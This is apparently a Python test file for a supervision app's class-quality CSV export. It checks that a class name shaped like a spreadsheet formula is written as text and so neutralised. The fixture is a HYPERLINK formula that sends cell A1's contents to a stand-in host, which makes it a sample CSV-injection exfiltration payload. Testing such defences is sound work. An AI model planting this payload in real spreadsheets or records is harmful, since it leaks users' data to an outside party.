"""The city's class-quality CSV writes a formula-like class name as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

from dte.demo.synthetic import Records
from dte.supervision import services
from tests.conftest import AT

FORMULA = '=HYPERLINK("http://x/?"&A1,"点击")'
NOW = datetime(2025, 5, 10, 2, tzinfo=UTC)


def test_the_quality_csv_writes_a_formula_like_class_name_as_text(city_officer, client_as):
    records = Records(user=city_officer, at=AT)
    klass = records.klass(start=date(2025, 4, 7), end=date(2025, 4, 30), name=FORMULA)
    inspection = services.inspection_open(actor=city_officer, klass=klass, at=NOW)
    services.inspection_record(
        actor=city_officer,
        inspection=inspection,
        visited_on=date(2025, 4, 20),
        inspectors="林",
        summary="抽查",
        at=NOW,
    )
    r = client_as(city_officer).get("/supervision/quality/?format=csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + FORMULA
